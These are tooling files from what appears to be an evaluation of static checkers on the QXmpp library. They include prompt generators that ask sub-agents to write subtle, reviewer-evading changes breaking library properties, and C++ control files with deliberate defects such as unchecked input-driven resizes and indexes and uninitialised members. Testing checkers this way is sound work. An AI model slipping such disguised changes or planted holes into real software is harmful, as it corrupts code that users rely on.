    text = text.replace('  B/...          the same for change B', '  B/..., C/...   the same for changes B and C')
    text = text.replace('summarise A and B', 'summarise A, B and C')
    text = text.replace('If you could only\nproduce one convincing change, deliver one and say so.', 'If you could only produce fewer convincing changes, deliver those and say so.')
if rnd == 5:
    text = text.replace('produce TWO independent source changes (call them A and B)', 'produce THREE independent source changes (call them A, B and C)')
    text = text.replace('(for change B pick a different mechanism / code site than for A where possible)', '(each of a different nature: A is confined to a HEADER or a declaration - an inline or template function, a default argument, a default member initialiser, the type, width, signedness or constness of a member / parameter / return value, an enum or a constant table - and no function body in a .cpp file is touched; B sits on a path the tests never take: an ERROR, timeout, cancellation, teardown / destructor or "peer misbehaves" branch, or the second and later use of an object (reuse after reset, second request, reconnect, re-registration); C is a TWO-PLACE change in which each place looks right on its own and only the combination breaks the property - a producer and its consumer, a setter and the code that reads the field, a serializer and a parser, a flag set in one function and tested in another - made by someone who updated one side for a good reason and adapted the other side incompletely. None of the three may be just a deleted or negated check in the function a reviewer would look at first)')
    text = text.replace('  B/...          the same for change B', '  B/..., C/...   the same for changes B and C')
    text = text.replace('summarise A and B', 'summarise A, B and C')
    text = text.replace('If you could only\nproduce one convincing change, deliver one and say so.', 'If you could only produce fewer convincing changes, deliver those and say so.')
print(text)
