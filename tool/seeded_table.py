#!/usr/bin/env python3
"""regenerate seeded/README.md's table and the table in DESIGN.md §8 from seeded/*/meta.json (fields check_first_run / check_now are set by hand after triage)"""
import glob
import json
import os
import re

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def rows():
    out = []
    for d in sorted(glob.glob(os.path.join(HERE, 'seeded', 'C*'))):
        k = os.path.basename(d)
        m = json.load(open(os.path.join(d, 'meta.json')))
        summ = (m.get('summary') or '').replace('\n', ' ').replace('|', '/')
        out.append((k, m.get('round', 1), summ[:170] + ('…' if len(summ) > 170 else ''), m.get('check_first_run', '?'), m.get('check_now', '?')))
    return out


def main():
    rs = rows()
    table = '| change | round | what | check on first run | reported by (now) |\n|---|---|---|---|---|\n' + '\n'.join('| %s | %s | %s | %s | %s |' % r for r in rs)
    n = len(rs)
    first_caught = sum(1 for r in rs if r[3].startswith('caught'))
    first_exit2 = sum(1 for r in rs if r[3].startswith('exit 2'))
    now_missed = sum(1 for r in rs if r[4].startswith('not decided'))
    stats = '%d kept changes; first run: %d caught, %d missed, %d exit 2; now: %d caught, %d not decided' % (n, first_caught, n - first_caught - first_exit2, first_exit2, n - now_missed, now_missed)
    for path in (os.path.join(HERE, 'seeded', 'README.md'), os.path.join(HERE, 'DESIGN.md')):
        s = open(path).read()
        s2 = re.sub(r'<!-- seeded-table-begin -->.*?<!-- seeded-table-end -->', '<!-- seeded-table-begin -->\n' + stats + '\n\n' + table + '\n<!-- seeded-table-end -->', s, flags=re.S)
        if s2 == s and '<!-- seeded-table-begin -->' not in s:
            print('no marker in', path)
        open(path, 'w').write(s2)
    print(stats)


if __name__ == '__main__':
    main()
