#!/usr/bin/env python3
"""print the prompt for a behaviour-preserving-refactoring sub-agent: tool/refactor_prompt.py C07 /tmp/refac/C07"""
import json
import sys

pid, wt = sys.argv[1], sys.argv[2]
rnd = int(sys.argv[3]) if len(sys.argv) > 3 else 1
prop = [json.loads(l) for l in open('/verif/properties.jsonl') if json.loads(l)['id'] == pid][0]
text = ('''You are helping to evaluate static checkers for the C++/Qt library QXmpp by playing the role of a maintainer who
cleans up code WITHOUT changing its behaviour. You work ONLY inside your own scratch git worktree of the library at

    %(wt)s        (already configured and fully built in %(wt)s/_build with Ninja; Qt 5, no network)

Do not read, write or run anything under /repo or /verif, and do not commit anything.

The semantic property of the library that your changes must KEEP TRUE:

%(prop)s

Task: produce FIVE independent, behaviour-preserving refactorings (call them A, B, C, D, E) of the library code that implements
the mechanism described above (the functions named in the anchors and their close collaborators), each of which
 1. leaves the observable behaviour of the library exactly as it is for every input, schedule and history - in particular the
    property above still holds, nothing new is accepted or rejected, nothing is sent, stored or reported differently,
 2. compiles and passes the existing test suite unchanged
    (ninja -C %(wt)s/_build && ctest --test-dir %(wt)s/_build -j4 --timeout 900 ;
     tst_qxmppiceconnection always fails here because there is no network -- ignore it; tst_qxmppserver and
     tst_qxmpptransfermanager use fixed local ports and can fail when another job runs them at the same moment:
     re-run such a test alone with ctest -R <name> before concluding anything),
 3. is a realistic clean-up a maintainer would do and that changes the SHAPE of the code noticeably, for example: extract a
    block or a condition into a helper function or a named local; inline a helper; invert a condition and swap the branches;
    replace early returns by nested ifs or the other way round; merge or split conditions; turn an if-chain into a switch or a
    table (or back); replace a hand-written loop by an algorithm or range-for (or back); swap the operands of comparisons;
    rename locals/members/private helpers; reorder independent statements; use a different but equivalent Qt/std API;
    move a private helper to another place in the file; change a lambda into a member function.
    Use a different kind of refactoring for each of the five, and touch the code that matters for the property, not unrelated code.
 4. is small to medium (roughly 5-60 changed lines).
For each refactoring write two or three sentences arguing why behaviour is unchanged (think about edge cases: empty strings,
null objects, short-circuit evaluation order, side effects of calls you move).
Do not edit anything under %(wt)s/tests.

Deliverables, all under %(wt)s/_seed/ (create it):
  A/patch.diff   (output of `git -C %(wt)s diff -- src` with only refactoring A applied)
  A/meta.json    {"property": "%(pid)s", "kind": "extract helper | invert condition | ...", "summary": "...", "files": [...],
                  "why_equivalent": "...", "tests": "what you ran and the result"}
  B/... E/...    the same for the others
When you are done, restore the worktree sources (git -C %(wt)s checkout -- src) so that only _seed/ remains as untracked output.
In your final answer, summarise the five refactorings in two lines each.''' % {'wt': wt, 'pid': pid, 'prop': json.dumps({k: prop[k] for k in ('id', 'title', 'statement', 'quantifier', 'anchors')}, indent=1)})
if rnd == 2:
    text = text.replace('    Use a different kind of refactoring for each of the five, and touch the code that matters for the property, not unrelated code.',
                        '''    Use a different kind of refactoring for each of the five, and touch the code that matters for the property, not unrelated code.
    Spread the five over at least four different functions, and put at least two of them into close COLLABORATORS of the main mechanism rather
    than into its central function: helpers, accessors and setters, data classes and their serialisers/parsers, storage classes, configuration
    objects, the callers of the mechanism, slots and lambdas connected to its signals, reset/cleanup/teardown code. Prefer kinds of clean-up
    such as: split one function in two or merge two; change the iteration style or the container access (index loop, iterator loop, range-for,
    algorithm, find/contains/value); turn a lambda slot into a member slot or back; change how a value is passed (by value, by reference, through a
    small struct, std::optional instead of a flag plus a value); introduce or remove a named local, an early return, an if-with-initialiser;
    hoist a common statement out of two branches or duplicate it into them; reorder independent member initialisations or independent statements;
    replace a boolean parameter by two functions (or the reverse).''')
TARGETS3 = {
    'C01': 'PubSubIqBase::toXmlElementFromChild and QXmppJingleIq::toXmlElementFromChild (the order of the writer calls, the local lambdas that open elements), QXmppDataForm::parse (how field values are read and collected), QXmppStanza::parse together with QXmppExtendedAddress::isValid/parse/toXml, QXmppHash::toXml, QXmppMucItem::parse',
    'C02': 'BindManager::handleElement, SaslManager::handleElement (its local finish lambda), NonSaslAuthManager::handleElement, StarttlsManager::handleElement, C2sStreamManager::handleElement, QXmppOutgoingClientPrivate::setListener and the places that call it, QXmppMixManager::requestChannelConfiguration/requestChannelInformation/handlePubSubEvent, QXmppRemoteMethod::gotResult',
    'C03': 'XmppSocket::processData (the handling of m_dataBuffer), the connected/encrypted/readyRead lambdas in XmppSocket::setSocket, QXmppIncomingClient::handleStanza (the part that copies the received element into nodeFull and stamps from/to)',
    'C05': 'the continuations attached to SaslManager::authenticate in QXmppOutgoingClient::handleStreamFeatures and to Sasl2Manager::authenticate in QXmppOutgoingClient::startSasl2Auth, QXmppOutgoingClient::setError, QXmppOutgoingClient::startNonSaslAuth',
    'C06': 'QXmppConfiguration::setUser/setDomain/setJid/setPassword and the credential accessors, initSaslAuthentication in QXmppSaslManager.cpp, the <success/> branches of SaslManager::handleElement and Sasl2Manager::handleElement',
    'C07': 'QXmppOutgoingClient::disconnectFromHost, OutgoingIqManager::handleStanza/finish/cancelAll/onSessionClosed, QXmppOutgoingClient::closeSession',
    'C08': 'QXmpp::Private::isIqType (QXmppUtils.cpp), QXmpp::Private::checkIsIqRequest (QXmppIqHandling.cpp), QXmppEntityTimeManager::handleStanza, QXmppVersionManager::handleStanza, QXmppEntityTimeIq::isEntityTimeIq / checkIqType',
    'C10': 'the connected/encrypted lambdas in XmppSocket::setSocket, QXmppOutgoingClient::handleStreamError, QXmppOutgoingClient::_q_socketDisconnected, C2sStreamManager::onEnabled / canResume / onStreamClosed, QXmppOutgoingClient::disconnectFromHost',
    'C11': 'QXmppConfiguration::jidBare / jid / setJid / setUser / setDomain / user / domain and QXmppConfigurationPrivate',
    'C12': 'the continuation in QXmppOutgoingClient::startResourceBinding, the roster-push loop in QXmppRosterManager::handleStanza, the roster-result continuation in QXmppRosterManager::_q_connected, QXmppRosterManager::getRosterEntry and the other accessors of the entries map',
    'C13': 'the constructors of QXmppPromise (QXmppPromise.h), TaskPrivate::TaskPrivate, TaskData and its destructor, TaskPrivate::setResult/resetResult (QXmppTask.cpp)',
    'C14': 'generateHmac in QXmppUtils.cpp (key preparation and padding), the text attributes (USERNAME, REALM, SOFTWARE, NONCE, ERROR-CODE phrase) in QXmppStunMessage::decode and encode',
    'C15': 'QXmppUdpTransport::readyRead, QXmppTurnAllocation::readyRead, QXmppIceComponent::checkCandidates / close / connectToHost and the "signal completion" tail of QXmppIceComponent::handleDatagram',
    'C16': 'XmppSocket::disconnectFromHost (Stream.cpp), QXmppIncomingClient::disconnectFromHost, the refusing edges (failure + disconnect) in QXmppIncomingClient::handleStanza / onDigestReply / onPasswordReply',
    'C17': 'QXmppJingleMessageInitiationElement::isJingleMessageInitiationElement / toXml / parse, QXmppCallInviteElement::isCallInviteElement / toXml / parse, QXmppBitsOfBinaryData::isBitsOfBinaryData / toXmlElementFromChild, the arms of QXmppMessage::parseExtension that use these predicates',
    'C18': 'QXmppTrustManager::trustLevel / setTrustLevel, QXmppAtmManager::makeTrustDecisions (the three-argument overload), QXmppAtmManager::authenticate / distrust, the sender-key lookup in QXmppAtmManager::handleMessage',
    'C19': 'QXmppTransferJob::accept(const QString &filePath), QXmppTransferManager::sendFile(jid, filePath, description) (hashing and the call of the device overload), QXmppTransferManager::sendFile(jid, device, fileInfo)',
    'C20': 'the multi-value branch of QXmppDataForm::parse, QXmppClient::_q_streamConnected, QXmppClientPrivate::addProperCapability, QXmppClient::setClientPresence',
}
if rnd == 3:
    text = text.replace('    Use a different kind of refactoring for each of the five, and touch the code that matters for the property, not unrelated code.',
                        '''    Use a different kind of refactoring for each of the five. Put ALL five into the following functions and their direct helpers (they are
    collaborators the property silently relies on; spread the five over at least three of them):
        %s
    Prefer clean-ups that change HOW these functions are written while keeping exactly what they do and in which order their observable effects
    happen: extract a part into a private helper or a lambda (or inline one); route a call through a small wrapper; replace a direct member access
    by an accessor or the reverse; introduce a named local for a condition or a value; turn an if/else into a ternary, a switch or early returns
    (or back); change the container access or iteration style; merge two adjacent conditions or split one; rename; move a declaration closer to
    its use; replace an API by an exactly equivalent one. Do NOT reorder statements whose order is observable (network sends, socket closes,
    signal emissions, promise completions, writes that a callee or a slot reads).''' % TARGETS3[pid])
print(text)
