#!/bin/bash
# tool/seed_confirm_all.sh C01 C06 ... : confirm A and B of each id (ids in parallel, variants sequentially)
for id in "$@"; do
  ( for v in A B; do [ -d /tmp/seed/$id/_seed/$v ] && /verif/tool/seed_confirm.sh $id $v > /tmp/seed/$id/_seed/$v/confirm.summary 2>&1; done ) &
done
wait
for id in "$@"; do for v in A B; do echo "#### $id $v"; grep -h "tests-with\|demo rc\|RESULT" /tmp/seed/$id/_seed/$v/confirm.summary 2>/dev/null; done; done
