#!/bin/bash
# tool/seed_confirm_all.sh C01 C06 ... : confirm A and B of each id (ids in parallel, variants sequentially)
for id in "$@"; do
  ( for v in A B C; do [ -d ${SEED_DIR:-/tmp/seed}/$id/_seed/$v ] && /verif/tool/seed_confirm.sh $id $v > ${SEED_DIR:-/tmp/seed}/$id/_seed/$v/confirm.summary 2>&1; done ) &
done
wait
for id in "$@"; do for v in A B C; do echo "#### $id $v"; grep -h "tests-with\|demo rc\|RESULT" ${SEED_DIR:-/tmp/seed}/$id/_seed/$v/confirm.summary 2>/dev/null; done; done
