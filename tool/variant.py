import json,sys,os
sys.path.insert(0,'/verif/tool')
import mutate
os.environ['QXV_MUTATE_FROM_HEAD']='1'
m=json.load(open(sys.argv[1]))
root=mutate.scratch_copy()
if m.get('patch') and m.get('patch_first'):
    err=mutate.apply_patch(root,m['patch']) or mutate.apply_edits(root,m.get('edits',[]))
else:
    err=mutate.apply_edits(root,m.get('edits',[])) or (m.get('patch') and mutate.apply_patch(root,m['patch']))
if err: sys.stderr.write(str(err)+'\n')
print(root)
