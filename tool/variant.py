#!/usr/bin/env python3
"""developer aid: materialise a selftest variant as a scratch copy and print its path (caller removes it).
   d=$(tool/variant.py selftest/neutral/C11-r-D.json); QXV_REPO=$d QXV_WORK=$d/.qxv-work tool/show.py client/X.cpp fn"""
import json, os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mutate
os.environ.setdefault('QXV_MUTATE_FROM_HEAD', '1')
m = json.load(open(sys.argv[1]))
root = mutate.scratch_copy()
err = mutate.apply_edits(root, m.get('edits', []))
if not err and m.get('patch'):
    err = mutate.apply_patch(root, m['patch'])
if err:
    sys.stderr.write(err + '\n')
print(root)
