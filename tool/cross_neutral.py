#!/usr/bin/env python3
"""Cross-property neutrality: every behaviour-preserving variant must leave EVERY check silent, not only the check of the property it was
written against.  usage: cross_neutral.py <name filter> [props...]   (variants are materialised under /tmp and removed)"""
import json, os, sys, glob, shutil, subprocess, time
sys.path.insert(0, '/verif/tool')
import mutate
os.environ['QXV_MUTATE_FROM_HEAD'] = '1'
flt = sys.argv[1]
props = sys.argv[2:] or ['C%02d' % i for i in range(1, 21)]
bad = 0
for p in sorted(glob.glob('/verif/selftest/neutral/*.json')):
    name = os.path.basename(p)
    if flt not in name:
        continue
    m = json.load(open(p))
    root = mutate.scratch_copy()
    try:
        if m.get('patch') and m.get('patch_first'):
            err = mutate.apply_patch(root, m['patch']) or mutate.apply_edits(root, m.get('edits', []))
        else:
            err = mutate.apply_edits(root, m.get('edits', [])) or (m.get('patch') and mutate.apply_patch(root, m['patch']))
        if err:
            print('STALE  ', name, err)
            continue
        t0 = time.time()
        res = []
        for prop in props:
            if prop == m['property']:
                continue
            rc, out = mutate.run_check(prop, root)
            if rc != 0:
                bad += 1
                res.append(prop)
                print('ALARM  ', name, prop, 'exit=%d' % rc, ' | '.join(l.strip()[:200] for l in out.splitlines() if l.startswith('  ') or 'BROKEN' in l)[:700], flush=True)
        print('%-7s %s  others=%d  %.0fs' % ('XALARM' if res else 'XSILENT', name, len(props) - 1, time.time() - t0), flush=True)
    finally:
        shutil.rmtree(root, ignore_errors=True)
sys.exit(1 if bad else 0)
