#!/usr/bin/env python3
"""regenerate the "As built - rules of the check today" paragraph of every property section of DESIGN.md §2 from evidence/<id>.json"""
import json, re
p = '/verif/DESIGN.md'
s = open(p).read()
a = s.index('\n## 2. Per-property design'); b = s.index('\n## 3. Keeping the checks honest')
out = s[a:b]
for i in range(1, 21):
    pid = 'C%02d' % i
    m = re.search(r'\n### %s [^\n]*\n' % pid, out)
    nxt = re.search(r'\n### C%02d ' % (i + 1), out) if i < 20 else None
    end = nxt.start() if nxt else len(out)
    body = out[m.end():end]
    if '**As built - rules of the check today' in body:
        body = body[:body.index('**As built - rules of the check today')]
    rules = json.load(open('/verif/evidence/%s.json' % pid))['coverage']['rules']
    lines = ['`%s` %s (instances on the tree: %d)' % (r['id'].split('.', 1)[1], r['text'] if len(r['text']) <= 260 else r['text'][:257] + '...', r['matched']) for r in rules]
    block = ('\n**As built - rules of the check today** (generated from `evidence/%s.json` by `tool/design_asbuilt.py`; the rules beyond the plan above came from the seeded rounds of '
             '§8 - §8.2, the refactoring campaigns of §9 - §9.2 and the agents\' remarks, §7.2): ' % pid) + '; '.join(lines) + '.\n'
    out = out[:m.end()] + body.rstrip('\n') + '\n' + block + out[end:]
open(p, 'w').write(s[:a] + out + s[b:])
print('ok')
