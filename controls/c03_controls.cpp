// Positive controls for C03.R7: detach_received and clear_received MUST be reported on every run, restructure_clone must NOT
// (compiled with the flags of a real unit; never linked, never executed).
#include <QDomElement>

namespace qxv_control {

QDomElement detach_received(const QDomElement &received)
{
    // the handle shares the node with the caller's iteration: its siblings are gone afterwards
    return received.parentNode().removeChild(received).toElement();
}

void clear_received(const QDomElement &received)
{
    QDomElement copy(received);      // a handle copy, not a deep copy
    copy.firstChildElement().clear();
}

static void dropChildren(QDomElement &element)
{
    while (!element.firstChildElement().isNull()) {
        element.removeChild(element.firstChildElement());
    }
}

QDomElement restructure_clone(const QDomElement &received)
{
    auto copy = received.cloneNode(true).toElement();
    dropChildren(copy);
    copy.appendChild(copy.ownerDocument().createElement(QStringLiteral("x")));
    return copy;
}

}  // namespace qxv_control
