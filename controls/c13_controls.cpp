// Instantiation witnesses for C13.R8: the promise template of /repo is instantiated for result types of every destructibility class; the checker reads the
// instantiated constructors (compiled with the flags of a real unit; never linked, never executed).
#include "QXmppPromise.h"

#include <QString>

namespace qxv_control {

enum class Level { Low, High };
struct Empty { };

void instantiate()
{
    QXmppPromise<void> v;
    QXmppPromise<bool> b;
    QXmppPromise<int> i;
    QXmppPromise<Level> e;
    QXmppPromise<const char *> p;
    QXmppPromise<Empty> s;
    QXmppPromise<QString> q;
    (void)v; (void)b; (void)i; (void)e; (void)p; (void)s; (void)q;
}

}  // namespace qxv_control
