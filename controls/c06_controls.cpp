// Positive control for C06.R5: the function below MUST be reported on every run (compiled with the flags of a real unit; never linked, never executed).
#include <QByteArray>
#include <QString>

namespace qxv_control {

QByteArray chained_arg(const QString &user, const QString &realm, const QString &password)
{
    // chained arg(): a "%2" inside `user` is replaced by `realm`
    return QStringLiteral("%1:%2:%3").arg(user).arg(realm).arg(password).toUtf8();
}

QByteArray safe_multi_arg(const QString &service, const QString &host)
{
    // one call, several arguments: substituted text is not scanned again (must NOT be reported)
    return QStringLiteral("%1/%2").arg(service, host).toUtf8();
}

}  // namespace qxv_control
