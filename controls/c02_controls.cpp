// Positive controls for C02: each function below MUST be reported by the corresponding rule on every run
// (compiled with the flags of a real unit; never linked, never executed).
#include <QByteArray>
#include <QDomElement>
#include <QString>
#include <QVector>

namespace qxv_control {

enum class Colour { Red, Green, Blue };

struct Uninit {
    int a = 0;
    qint64 never_set;      // R1: no initialiser, implicit constructor
    Colour colour;         // R1
};

Uninit *make_uninit()
{
    return new Uninit;     // default-initialisation: never_set / colour indeterminate
}

void taint_resize(const QDomElement &el, QByteArray &out)
{
    out.resize(el.attribute(QStringLiteral("n")).toInt());     // R3: size from an attribute, unchecked
}

QChar taint_index(const QDomElement &el, const QString &s)
{
    const int i = el.text().toInt();
    return s.at(i);                                           // R3: index from text, unchecked
}

Colour cast_unchecked(const QDomElement &el)
{
    return Colour(el.attribute(QStringLiteral("c")).toInt()); // R2: parsed integer converted to an enum
}

int loop_no_progress(const QDomElement &el)
{
    int n = 0;
    QDomElement child = el.firstChildElement();
    while (!child.isNull()) {
        if (child.tagName() == QStringLiteral("skip")) {
            continue;                                         // R5: back to the loop head without advancing child
        }
        n++;
        child = child.nextSiblingElement();
    }
    return n;
}

struct OrderDependent {
    QString thread;
    QString markedThread;
    void parseOrderDependent(const QDomElement &el)
    {
        for (QDomElement c = el.firstChildElement(); !c.isNull(); c = c.nextSiblingElement()) {
            if (c.tagName() == QStringLiteral("thread")) {
                thread = c.text();
            } else if (c.tagName() == QStringLiteral("marker")) {
                markedThread = thread;                         // R6: depends on whether <thread/> came first
            }
        }
    }
};

unsigned ack_up_to(unsigned first, unsigned h)
{
    unsigned n = 0;
    for (unsigned seq = first; seq <= h; seq++) {              // R7: never false for h == UINT_MAX
        n++;
    }
    return n;
}

struct Item {
    QString name;
    QVector<QString> uris;
};

struct ItemList {
    QVector<Item> items;
    void parseStaleItem(const QDomElement &el)
    {
        Item item;                                             // R8: declared outside the loop ...
        for (QDomElement c = el.firstChildElement(); !c.isNull(); c = c.nextSiblingElement()) {
            item.name = c.attribute(QStringLiteral("name"));
            if (c.hasAttribute(QStringLiteral("uri"))) {
                item.uris << c.attribute(QStringLiteral("uri"));
            }
            items.append(item);                                // ... and appended in every iteration
        }
    }
};

}  // namespace qxv_control
