// Positive controls for C01.R9 / R10 / R11: each parse function below MUST be reported by the corresponding rule on every run
// (compiled with the flags of a real unit; never linked, never executed).
#include <QDomElement>
#include <QString>
#include <QVector>
#include <optional>
#include <cstdint>

namespace qxv_control {

struct Entry {
    QString id;
    QString by;
};

struct Codec {
    QString error;
    QVector<Entry> entries;
    uint64_t size = 0;
    std::optional<uint64_t> length;

    // R9: the <error/> child is read only when another attribute has a particular value
    void parseGuardedByOtherAttribute(const QDomElement &element)
    {
        if (element.attribute(QStringLiteral("type")) == QStringLiteral("error")) {
            error = element.firstChildElement(QStringLiteral("error")).text();
        }
    }

    // R10: an entry of a multi-valued member is overwritten while parsing
    void parseOverwritesEntry(const QDomElement &element)
    {
        Entry e { element.attribute(QStringLiteral("id")), element.attribute(QStringLiteral("by")) };
        for (auto &old : entries) {
            if (old.by == e.by) {
                old = e;
                return;
            }
        }
        entries.push_back(e);
    }

    // R11: a 64-bit member parsed with a 32-bit conversion
    void parseNarrow(const QDomElement &element)
    {
        size = element.attribute(QStringLiteral("size")).toUInt();
    }
};

static std::optional<uint32_t> parseUInt(const QDomElement &parent)
{
    return parent.text().toUInt();
}

// R11 through a helper returning a narrower optional
void parseNarrowThroughHelper(Codec &c, const QDomElement &element)
{
    c.length = parseUInt(element);
}

}  // namespace qxv_control
