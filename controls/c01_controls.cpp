// Positive controls for C01.R9 / R10 / R11 / R13 / R14: each parse function below MUST be reported by the corresponding rule on every run
// (compiled with the flags of a real unit; never linked, never executed).
#include <QDomElement>
#include <QString>
#include <QVector>
#include <optional>
#include <cstdint>

namespace qxv_control {

struct Entry {
    QString id;
    QString by;
};

struct Codec {
    QString error;
    QVector<Entry> entries;
    uint64_t size = 0;
    std::optional<uint64_t> length;

    // R9: the <error/> child is read only when another attribute has a particular value
    void parseGuardedByOtherAttribute(const QDomElement &element)
    {
        if (element.attribute(QStringLiteral("type")) == QStringLiteral("error")) {
            error = element.firstChildElement(QStringLiteral("error")).text();
        }
    }

    // R10: an entry of a multi-valued member is overwritten while parsing
    void parseOverwritesEntry(const QDomElement &element)
    {
        Entry e { element.attribute(QStringLiteral("id")), element.attribute(QStringLiteral("by")) };
        for (auto &old : entries) {
            if (old.by == e.by) {
                old = e;
                return;
            }
        }
        entries.push_back(e);
    }

    // R13: text is stored normalised (the writer emits the member as it is)
    void parseNormalises(const QDomElement &element)
    {
        const auto value = element.firstChildElement(QStringLiteral("value")).text().trimmed();
        setError(value);
    }
    void setError(const QString &e) { error = e; }

    // R13 negative: normalising for a comparison / a bool is fine (must NOT be reported)
    bool flag = false;
    void parseTolerantFlag(const QDomElement &element)
    {
        const auto v = element.attribute(QStringLiteral("flag")).trimmed().toLower();
        flag = v == QStringLiteral("1") || v == QStringLiteral("true");
    }

    // R14: children are kept only when a member has one of a few values (the writer emits every child)
    struct Child {
        QString kind;
        QString jid;
        void parse(const QDomElement &e) { kind = e.attribute(QStringLiteral("kind")); jid = e.attribute(QStringLiteral("jid")); }
        bool isKnownKind() const { return !jid.isEmpty() && (kind == QStringLiteral("to") || kind == QStringLiteral("cc")); }
        bool isComplete() const { return !kind.isEmpty() && !jid.isEmpty(); }
    };
    QVector<Child> children;
    void parseFiltersByValue(const QDomElement &element)
    {
        Child c;
        c.parse(element);
        if (c.isKnownKind()) {
            children.push_back(c);
        }
    }
    // R14 negative: an emptiness filter is fine (blank values are outside the round-trip claim) - must NOT be reported
    void parseFiltersEmpty(const QDomElement &element)
    {
        Child c;
        c.parse(element);
        if (c.isComplete()) {
            children.push_back(c);
        }
    }

    // R11: a 64-bit member parsed with a 32-bit conversion
    void parseNarrow(const QDomElement &element)
    {
        size = element.attribute(QStringLiteral("size")).toUInt();
    }
};

static std::optional<uint32_t> parseUInt(const QDomElement &parent)
{
    return parent.text().toUInt();
}

// R11 through a helper returning a narrower optional
void parseNarrowThroughHelper(Codec &c, const QDomElement &element)
{
    c.length = parseUInt(element);
}

}  // namespace qxv_control
