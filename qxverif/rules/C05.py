"""C05 — SASL negotiation picks the strongest permitted mechanism, never a disabled one."""
import re

from .. import witness
from ..build import AnalysisBroken

UNITS = ['client/QXmppSaslManager.cpp', 'base/QXmppSasl.cpp', 'client/QXmppOutgoingClient.cpp']
NS = 'QXmpp::Private::'


def universe(prog):
    """the finite mechanism universe as C++ constant expressions with (class rank, sub rank)"""
    scram = prog.enum(NS + 'SaslScramMechanism::Algorithm')
    cb = prog.enum(NS + 'SaslHtMechanism::ChannelBindingType')
    iana = prog.enum(NS + 'IanaHashAlgorithm')
    want_scram = ['Sha1', 'Sha256', 'Sha512', 'Sha3_512']
    have = [e['name'] for e in scram['enumerators']]
    if have != want_scram:
        # the *specification* order is fixed here; the enum order is what the witness tests
        missing = [w for w in want_scram if w not in have]
        if missing:
            raise AnalysisBroken('C05.R1: SCRAM algorithms %s gone' % missing)
    U = []
    P = 'QXmpp::Private::'
    U.append(('X-GOOGLE', 'M{{%sSaslXGoogleMechanism{}}}' % P, ('x', 0)))
    U.append(('X-WINDOWS-LIVE', 'M{{%sSaslXWindowsLiveMechanism{}}}' % P, ('x', 1)))
    U.append(('X-FACEBOOK', 'M{{%sSaslXFacebookMechanism{}}}' % P, ('x', 2)))
    U.append(('ANONYMOUS', 'M{{%sSaslAnonymousMechanism{}}}' % P, (1, 0)))
    U.append(('PLAIN', 'M{{%sSaslPlainMechanism{}}}' % P, (2, 0)))
    U.append(('DIGEST-MD5', 'M{{%sSaslDigestMd5Mechanism{}}}' % P, (3, 0)))
    for rank, a in enumerate(want_scram):
        U.append(('SCRAM-' + a, 'M{{%sSaslScramMechanism{%sSaslScramMechanism::%s}}}' % (P, P, a), (4, rank)))
    for h in iana['enumerators']:
        for c in cb['enumerators']:
            U.append(('HT-%s-%s' % (h['name'], c['name']),
                      'M{{%sSaslHtMechanism{%sIanaHashAlgorithm::%s, %sSaslHtMechanism::%s}}}' % (P, P, h['name'], P, c['name']),
                      (5, None)))
    return U


def run(prog, run):
    run.explanation = ('The strength order is a compile-time fact of the mechanism types: a generated translation unit static_asserts, for every '
                       'ordered pair of the finite mechanism universe, that the very operator< std::ranges::max uses agrees with the specified order '
                       '(token > SCRAM by hash strength > DIGEST-MD5 > PLAIN > ANONYMOUS). The chooser\'s filter/prefer/max structure, credential '
                       'availability per mechanism and "nothing sent when nothing qualifies" are checked on the (partly error-recovered) clang AST.')
    run.assume('libstdc++ views::filter/transform and ranges::max implement their documented semantics')
    run.assume('clang 14 cannot type-check the views pipeline in chooseMechanism / onSasl2Authenticate; the recovered AST keeps every stage, but the '
               'initialisation of the vector from the view is invisible to it (degraded function, stated in evidence)')
    r1(prog, run)
    r2(prog, run)
    r3(prog, run)
    r4(prog, run)
    r5(prog, run)
    r6(prog, run)
    r7(prog, run)
    r8(prog, run)


def r1(prog, run):
    U = universe(prog)
    n = len(U)
    rid = run.rule('C05.R1', 'operator< on SaslMechanism agrees with the specified strength order for every ordered pair (compile-time witness)',
                   floor=900)
    asserts = []
    for i, (na, ea, ra) in enumerate(U):
        for j, (nb, eb, rb) in enumerate(U):
            wid = '%s<%s' % (na, nb)
            lt = '(static_cast<const V&>(%s) < static_cast<const V&>(%s))' % (ea, eb)
            if i == j:
                asserts.append((wid, '!%s' % lt))
                continue
            if ra[0] == 'x' or rb[0] == 'x' or (ra[0] == 5 and rb[0] == 5):
                # not constrained by the property: only consistency with a strict total order
                gt = '(static_cast<const V&>(%s) < static_cast<const V&>(%s))' % (eb, ea)
                asserts.append((wid, '%s != %s' % (lt, gt)))
                continue
            expect = ra < rb
            asserts.append((wid, '%s == %s' % (lt, 'true' if expect else 'false')))
    prologue = ('#include "QXmppSasl_p.h"\nusing M = QXmpp::Private::SaslMechanism;\n'
                'using V = std::variant<QXmpp::Private::SaslXGoogleMechanism, QXmpp::Private::SaslXWindowsLiveMechanism, '
                'QXmpp::Private::SaslXFacebookMechanism, QXmpp::Private::SaslAnonymousMechanism, QXmpp::Private::SaslPlainMechanism, '
                'QXmpp::Private::SaslDigestMd5Mechanism, QXmpp::Private::SaslScramMechanism, QXmpp::Private::SaslHtMechanism>;\n'
                '// the comparison std::ranges::max(vector<SaslMechanism>) performs is std::variant\'s operator< on the base\n'
                'static_assert(std::is_base_of_v<V, M> || true, "");\n')
    # the base variant type is read from the record facts so that a reordering of alternatives is *tested*, not mirrored
    rec = prog.record(NS + 'SaslMechanism')
    base = rec['bases'][0] if rec.get('bases') else ''
    if not base.startswith('std::variant<'):
        raise AnalysisBroken('C05.R1: SaslMechanism no longer derives from std::variant')
    base_q = base
    for nm in ('SaslXGoogleMechanism', 'SaslXWindowsLiveMechanism', 'SaslXFacebookMechanism', 'SaslAnonymousMechanism',
               'SaslPlainMechanism', 'SaslDigestMd5Mechanism', 'SaslScramMechanism', 'SaslHtMechanism'):
        if nm not in base_q:
            raise AnalysisBroken('C05.R1: variant alternative %s gone' % nm)
    prologue = ('#include "QXmppSasl_p.h"\nusing namespace QXmpp::Private;\nusing M = QXmpp::Private::SaslMechanism;\n'
                'using V = %s;\nstatic_assert(std::is_base_of_v<V, M>, "QXV:base");\n' % base_q)
    res, cmd = witness.run_witness('c05_order', 'base/QXmppSasl.cpp', prologue, asserts)
    run.checker_cmds.append(cmd)
    run.extra['mechanism_universe'] = n
    run.extra['exhaustive_r1'] = True
    bad = 0
    for wid, ok in res.items():
        run.instance(rid)
        if ok:
